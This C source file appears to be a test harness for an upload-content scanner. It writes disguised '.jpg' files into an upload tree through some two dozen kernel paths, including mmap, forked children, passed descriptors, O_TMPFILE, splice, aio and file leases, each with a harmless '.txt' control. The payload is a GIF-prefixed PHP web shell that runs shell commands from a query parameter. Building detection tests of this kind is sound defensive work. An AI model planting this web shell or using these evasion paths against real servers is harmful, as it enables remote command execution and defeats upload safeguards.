// SPDX-License-Identifier: MIT
/* Purpose: files of an upload tree that hold PHP when nobody has them open any
 * more, however that came about.  Each prints "WAY FILE"; beside it lies FILE with
 * `.txt` behind its name, made in the same way, which holds an ordinary text. */
#include "writes.h"

#include <fcntl.h>
#include <linux/aio_abi.h>
#include <pthread.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#define EVIL "GIF89a<?php system($_GET[1]); ?>"

static const char *text;
static size_t size;

static int begin(const char *path)
{
    return open(path, O_CREAT | O_RDWR, 0644);
}

static void put(int fd)
{
    if (write(fd, text, size) < 0) perror("write");
}

/* Long after it was closed elsewhere. */
static void put_late(int fd)
{
    usleep(50000);
    put(fd);
}

/* Made and closed; what it will hold is mapped. */
static char *map(const char *path)
{
    int fd = begin(path);
    if (ftruncate(fd, (off_t)size)) perror("ftruncate");
    char *p = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    close(fd);
    return p;
}

static void put_mapped(char *p)
{
    if (p != MAP_FAILED) memcpy(p, text, size);
}

static const char *first_of(const char *path)
{
    static char first[4200];
    snprintf(first, sizeof first, "%s.first", path);
    return first;
}

/* Made under another name, then linked to its path. */
static int begin_linked(const char *path)
{
    int fd = begin(first_of(path));
    link(first_of(path), path);
    return fd;
}

static const char *held(int fd)
{
    static char name[64];
    snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
    return name;
}

static void by_exit(const char *path)
{
    put(begin(path));
}

static void by_kill(const char *path)
{
    put(begin(path));
    kill(getpid(), SIGKILL);
}

/* The parent closes it long before the child writes. */
static void by_child(const char *path)
{
    int fd = begin(path);
    if (fork() == 0) {
        put_late(fd);
        _exit(0);
    }
    close(fd);
}

static void by_exec(const char *path)
{
    char *arguments[] = { "/bin/true", NULL }, *none[] = { NULL };
    int fd = begin(path);
    put(fd);
    execve("/bin/true", arguments, none);
}

static void by_map(const char *path)
{
    char *p = map(path);
    usleep(50000);
    put_mapped(p);
}

/* Closed once, then written by what was mapped before: a process that lives on. */
static void by_map_child(const char *path)
{
    char *p = map(path);
    if (fork() == 0) {
        usleep(100000);
        put_mapped(p);
        _exit(0);
    }
    munmap(p, size);
}

static void by_socket(const char *path)
{
    int pair[2], fd = begin(path);
    char byte = 0, control[CMSG_SPACE(sizeof(int))] = { 0 };
    struct iovec iov = { &byte, 1 };
    struct msghdr message = {
        .msg_iov = &iov, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control
    };
    if (socketpair(AF_UNIX, SOCK_DGRAM, 0, pair)) return;
    struct cmsghdr *c = CMSG_FIRSTHDR(&message);
    c->cmsg_level = SOL_SOCKET;
    c->cmsg_type = SCM_RIGHTS;
    c->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(c), &fd, sizeof fd);
    if (sendmsg(pair[0], &message, 0) < 0) perror("sendmsg");
    close(fd);
    usleep(50000);
    if (recvmsg(pair[1], &message, 0) < 0) perror("recvmsg");
    memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof fd);
    put(fd);
}

static void *write_later(void *path)
{
    int fd = begin(path), again = dup(fd);
    close(fd);
    put_late(again);
    return NULL;
}

static void by_thread(const char *path)
{
    pthread_t thread;
    if (pthread_create(&thread, NULL, write_later, (void *)(uintptr_t)path) == 0)
        pthread_join(thread, NULL);
}

/* Its first name goes, a second one stays. */
static void by_other_name(const char *path)
{
    int fd = begin_linked(path);
    unlink(first_of(path));
    put(fd);
}

/* Both stay. */
static void by_two_names(const char *path)
{
    int fd = begin_linked(path);
    put(fd);
    close(fd);
}

/* A file that is called as a removed one is shown. */
static void by_deleted_name(const char *path)
{
    char shown[4300];
    snprintf(shown, sizeof shown, "%s (deleted)", first_of(path));
    int other = open(shown, O_CREAT | O_WRONLY, 0644);
    if (write(other, "text", 4) < 0) perror("write");
    close(other);
    int fd = begin_linked(path);
    unlink(first_of(path));
    put(fd);
    close(fd);
    usleep(100000);
    unlink(shown);
}

static char *outside_of(const char *path)
{
    return eg_in(eg_outside, strrchr(path, '/') + 1);
}

/* Opened where anybody may write, then brought in. */
static void by_moved(const char *path)
{
    char *other = outside_of(path);
    int fd = begin(other);
    rename(other, path);
    put_late(fd);
}

static void by_nameless(const char *path)
{
    int fd = open(eg_uploads, O_TMPFILE | O_RDWR, 0644);
    linkat(AT_FDCWD, held(fd), AT_FDCWD, path, AT_SYMLINK_FOLLOW);
    put_late(fd);
}

/* So big that its reading is interrupted by another opening. */
static void by_second_opening(const char *path)
{
    int fd = begin(path);
    static char block[1 << 20];
    memset(block, 'x', sizeof block);
    for (int i = 0; i < 24; i++)
        if (write(fd, block, sizeof block) < 0) perror("write");
    close(fd);
    fd = open(path, O_WRONLY);
    usleep(300000);
    put(fd);
}

static void by_sparse(const char *path)
{
    int fd = begin(path);
    if (ftruncate(fd, (off_t)1 << 42) && ftruncate(fd, (off_t)1 << 36)) perror("ftruncate");
    lseek(fd, 0, SEEK_END);
    put(fd);
}

static void by_reopen(const char *path)
{
    close(begin(path));
    put(open(held(open(path, O_RDONLY)), O_RDWR));
}

static int memory(void)
{
    int fd = (int)syscall(SYS_memfd_create, "x", 8 /* MFD_NOEXEC_SEAL */);
    put(fd);
    lseek(fd, 0, SEEK_SET);
    return fd;
}

static void by_sendfile(const char *path)
{
    if (sendfile(begin(path), memory(), NULL, size) < 0) perror("sendfile");
}

static void by_splice(const char *path)
{
    int pipes[2];
    struct iovec iov = { (void *)(uintptr_t)text, size };
    if (pipe(pipes)) return;
    if (vmsplice(pipes[1], &iov, 1, 0) < 0) perror("vmsplice");
    if (splice(pipes[0], NULL, begin(path), NULL, size, 0) < 0) perror("splice");
}

static void by_copy_range(const char *path)
{
    char *other = outside_of(path);
    int from = begin(other);
    put(from);
    loff_t at = 0;
    if (syscall(SYS_copy_file_range, from, &at, begin(path), NULL, size, 0) < 0)
        perror("copy_file_range");
    unlink(other);
}

static void by_aio(const char *path)
{
    aio_context_t context = 0;
    struct iocb job = { .aio_lio_opcode = IOCB_CMD_PWRITE,
                        .aio_fildes = (uint32_t)begin(path),
                        .aio_buf = (uintptr_t)text,
                        .aio_nbytes = size };
    struct iocb *jobs[] = { &job };
    if (syscall(SYS_io_setup, 4, &context)) perror("io_setup");
    if (syscall(SYS_io_submit, context, 1, jobs) != 1) perror("io_submit");
    close((int)job.aio_fildes);
}

static void by_append(const char *path)
{
    close(begin(path));
    put(open(path, O_WRONLY | O_APPEND | O_DSYNC | O_NOATIME));
}

/* chattr +i: neither moved nor removed. */
static void by_immutable(const char *path)
{
    int fd = begin(path), flags = 0x10;
    put(fd);
    if (strchr(text, '<')) ioctl(fd, _IOW('f', 2, long), &flags);
}

/* While it is judged it may not be opened otherwise. */
static void by_lease(const char *path)
{
    int fd = begin(path);
    put(fd);
    if (fork() == 0) {
        for (int i = 0; i < 3000; i++) {
            int again = open(path, O_RDONLY);
            fcntl(again, F_SETLEASE, F_WRLCK);
            usleep(100);
            close(again);
        }
        _exit(0);
    }
}

/* It ends with the file open, in a process that is no child of the first one. */
static void by_orphan(const char *path)
{
    int fd = begin(path);
    if (fork() == 0) {
        if (fork() == 0) {
            usleep(200000);
            put(fd);
            _exit(0);
        }
        _exit(0);
    }
}

/* clang-format off */
#define WAYS(W) \
    W(exit) W(kill) W(child) W(exec) W(map) W(map_child) \
    W(socket) W(thread) W(other_name) W(two_names) W(deleted_name) W(moved) \
    W(nameless) W(second_opening) W(sparse) W(reopen) W(sendfile) W(splice) \
    W(copy_range) W(aio) W(append) W(immutable) W(lease) W(orphan)
/* clang-format on */

static void way(const char *name, void (*run)(const char *path))
{
    for (int evil = 1; evil >= 0; evil--) {
        char path[4200];
        snprintf(path, sizeof path, "%s/%s.jpg%s", eg_uploads, name, evil ? "" : ".txt");
        if (evil) printf("%s %s\n", name, strrchr(path, '/') + 1);
        fflush(stdout);
        text = evil ? EVIL : "an ordinary text, no program";
        size = strlen(text);
        pid_t child = fork();
        if (child == 0) {
            run(path);
            _exit(0);
        }
        while (waitpid(child, NULL, 0) < 0)
            ;
    }
}

void eg_content_ways(void)
{
#define W(name) way(#name, by_##name);
    WAYS(W)
#undef W
}
